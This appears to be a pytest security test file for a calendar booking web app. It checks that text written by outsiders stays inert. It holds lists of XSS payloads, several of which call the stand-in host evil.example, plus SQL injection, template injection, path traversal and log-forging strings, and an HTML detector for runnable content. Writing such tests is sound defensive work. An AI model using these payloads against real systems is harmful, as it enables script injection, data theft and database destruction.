"""Checklist lines on hostile content: what strangers write is shown, mailed and handed on as text."""

import io
import logging
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest
from django.conf import settings
from django.test import Client

from conversa_calendar.booking_pages import limits, views
from conversa_calendar.config.logs import OneLine
from conversa_calendar.domain import names
from conversa_calendar.kit import trace
from conversa_calendar.providers.google.client import GoogleCalendar
from conversa_calendar.providers.google.transport import Request, Response
from tests.bookings.test_bookings import VISITOR, make_page, soon, text
from tests.support.cast import Cast
from tests.sync.conftest import ANA, Scene, at, scene  # noqa: F401

_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationend", "onbegin")
_CARRIERS = (
    "<img src=x {on}=alert(1)>",
    "<svg {on}=alert(1)>",
    "<details open {on}=alert(1)>x</details>",
    '"><b {on}="alert(1)">x</b>',
    "' autofocus {on}='alert(1)' x='",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "data:text/html,",
    "vbscript:",
)
_WHOLE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "{{7*7}}{% debug %}{{ request.user }}",
    "<!--><img src onerror=alert(1)>-->",
)
PAYLOADS = (
    *_WHOLE,
    *(carrier.format(on=on) for carrier in _CARRIERS for on in _EVENTS),
    *(f'<a href="{scheme}alert(1)">x</a>' for scheme in _SCHEMES),
)
FOREIGN = "//evil.example"


class Found(HTMLParser):
    """What a browser would run or fetch of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: "".join((value or "").split()).lower() for name, value in attrs}
        is_data = tag == "script" and values.get("type") == "application/json"
        is_own = tag == "script" and values.get("src", "").startswith("/static/")
        runs = tag == "script" and not is_data and not is_own
        handles = any(name.startswith("on") for name in values)
        leads = any(values.get(name, "").startswith(_BAD) for name in ("href", "src", "action", "data", "formaction"))
        if runs or handles or leads or tag in {"iframe", "object", "embed", "base"} or "srcdoc" in values:
            self.bad.append(self.get_starttag_text() or tag)


_BAD = ("javascript:", "data:text", "vbscript:", FOREIGN)


def _bad_in(page: str) -> list[str]:
    found = Found()
    found.feed(page)
    return found.bad


@pytest.fixture(autouse=True)
def patient_visitors(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(views, "HUMAN_S", 0.0)
    for name in ("views", "submits"):
        monkeypatch.setattr(limits, name, limits.Window(10_000))


def test_e49_nothing_that_strangers_write_runs_on_any_page(scene: Scene) -> None:  # noqa: F811
    """Each payload stands in every field of an invitation; the pages that show it hold nothing that a browser would run."""
    assert len(PAYLOADS) >= 60
    boss = scene.google.person("boss@else.example")
    for number, payload in enumerate(PAYLOADS):
        hour = f"2026-12-{1 + number % 25:02}T{8 + number // 25:02}"
        guests = [{"email": ANA}, {"email": f"g{number}@else.example", "displayName": payload}]
        boss.insert(summary=payload, description=payload, location=payload, start=at(f"{hour}:00:00"),
                    end=at(f"{hour}:30:00"), attendees=guests)  # fmt: skip
    scene.google.check()
    events = scene.here()
    assert len(events) == len(PAYLOADS)
    browser = scene.alice.browser()
    addresses = [f"/events/{event['id']}" for event in events]
    addresses += [f"/events/{event['id']}/history" for event in events[:5]]
    addresses += [
        "/calendar?date=2026-12-01",
        "/calendar/search?q=" + quote("<"),
        "/activity",
        "/connections",
        "/trash",
    ]
    addresses += ["/calendar/search?q=" + quote(_WHOLE[0]), "/calendar/team", "/calendar?date=2026-12-08&view=list"]
    for address in addresses:
        page = browser.get(address)
        assert page.status_code == 200, address
        assert _bad_in(page.content.decode()) == [], address
    assert b"&lt;script" in browser.get(addresses[0]).content, "shown as text"
    assert _bad_in(_WHOLE[0]) and _bad_in(PAYLOADS[-1]), "the judge sees what is bad"


def test_e54_what_a_visitor_types_is_no_markup_in_the_hosts_google_calendar(scene: Scene) -> None:  # noqa: F811
    question = [{"label": "Note", "kind": "text", "required": False}]
    host = {"id": str(scene.alice.member.uuid), "calendar": scene.calendar}
    page = make_page(scene.alice, questions=question, hosts=[host])
    typed = 'See <a href="https://evil.example">here</a> & <b>bold</b>'
    body = {"page": page["id"], "start": text(soon()), "answers": [typed]} | VISITOR | {"name": "Vera <b>V</b>"}
    scene.alice.post("bookings", body)
    scene.google.settle()
    [event] = [e for e in scene.ana.list() if "Support call" in e["summary"]]
    assert "<" not in event["description"] and "bold" in event["description"]
    assert names.unmarked("a < b") == "a ‹ b"


def test_e58_what_looks_like_a_template_stays_text(cast: Cast) -> None:
    page = make_page(cast.alice, title="{{7*7}} {% debug %}", description="{{ settings.SECRET_KEY }}")
    shown = Client().get(f"/book/{page['slug']}").content.decode()
    assert "{{7*7}} {% debug %}" in shown and "{{ settings.SECRET_KEY }}" in shown


@pytest.mark.parametrize(
    "typed", ["' OR 1=1 --", "'; DROP TABLE accounts_user; --", "%' UNION SELECT 1 --", "\\' OR '1'='1", "pg_sleep(5)"]
)
def test_e63_no_text_becomes_part_of_a_query(cast: Cast, typed: str) -> None:
    calendar = cast.alice.get("calendars")["items"][0]["id"]
    times = {"start": {"date": "2026-12-01"}, "end": {"date": "2026-12-02"}}
    cast.alice.post("events", {"calendar": calendar, "summary": "CANARY"} | times)
    span = "from=2026-11-01T00:00:00Z&to=2027-01-01T00:00:00Z"
    assert cast.alice.get(f"events?{span}&q={quote(typed)}")["items"] == []
    for name in ("calendar", "agent", "team", "inbox", "cursor"):
        answer = cast.alice.call("GET", f"events?{span}&{name}={quote(typed)}")
        assert answer.status_code in {200, 404, 422} and b"CANARY" not in answer.content, name
    assert cast.alice.get(f"events?{span}")["items"]


def test_e65_an_id_is_one_part_of_an_address_at_google() -> None:
    asked: list[str] = []

    class Recorder:
        is_concurrent = False

        def send(self, request: Request) -> Response:
            asked.append(request.url)
            return Response(204, {}, b"")

    client: Any = GoogleCalendar(Recorder(), "https://google.example/calendar/v3", lambda: "token")
    client.stop("../../users/me", "a/b?x=#")
    for strange in ("../../users/me", "a/b?x=1", "#", "%2e%2e"):
        with pytest.raises(Exception):  # noqa: B017 - the answer is none; only the address matters
            client.move(strange, strange, "x")
        assert asked[-1].startswith(f"https://google.example/calendar/v3/calendars/{quote(strange, safe='')}/events/")


def test_e66_a_title_cannot_forge_a_line_of_the_log() -> None:
    forged = "Lunch\r\n2026-12-01 ERROR root all is lost\x1b[31m\u2028\u202e"
    heard = io.StringIO()
    handler = logging.StreamHandler(heard)
    assert settings.LOGGING["formatters"]["line"]["()"] == f"{OneLine.__module__}.{OneLine.__name__}"
    handler.addFilter(trace.Stamp())
    handler.setFormatter(OneLine(settings.LOGGING["formatters"]["line"]["fmt"]))
    log = logging.Logger("forged")
    log.addHandler(handler)
    log.warning("not stored: %s", forged)
    try:
        raise ValueError(forged)
    except ValueError:
        log.exception("broken")
    lines = heard.getvalue().split("\n")
    assert not any(line.startswith("2026-12-01 ERROR") or "\x1b" in line or "\u2028" in line for line in lines)
    assert len([line for line in lines if line and not line.startswith("  ")]) == 2


def test_e25_what_an_address_says_about_an_error_is_not_repeated(cast: Cast) -> None:
    page = cast.alice.browser().get(
        "/connections/google/callback", {"state": "x", "error": "CANARY<b>", "error_description": "CANARY<b>"}
    )
    assert page.status_code == 409 and b"CANARY" not in page.content
